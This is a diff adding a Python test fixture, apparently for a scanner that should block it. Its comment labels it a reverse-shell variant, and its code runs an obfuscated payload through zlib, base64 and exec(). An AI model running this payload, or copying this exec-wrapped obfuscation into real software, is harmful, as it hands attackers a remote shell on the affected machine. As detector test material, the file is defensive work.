@@ -1,0 +1,3 @@
+# expect: BLOCKED category: reverse_shell variant-of: risky/reverse_shell/dup2_pty.py technique: exec-wrapped
+import base64, zlib
+exec(zlib.decompress(base64.b64decode('eJxFT0FqwzAQvOsVg3uRQCi2014COYSQ0lJal9j3oMgyFnUlo1VT+vuqOKFz2Rl2Z3f2DvtJEzmDaC82kgWNdpo2oGA+bJLov+YawacASr0LEmm0HtrD+WSjNsldLOb0s/gUc59ziAmBbiz3bnTZydhT03YS782xwxZFXa5VqapqrR4KifsMxig3lmm1FH5Vu8fT89shu6+6bfYvp7Y7HnavgpEywXtrEuf/J4RgQ4gY+pwYvJSoJGqxYcgIpP7+46QGN1kfuJB5ULCcWdGsvz0vVmfnV2dNYyF+AbY/XeM=')))
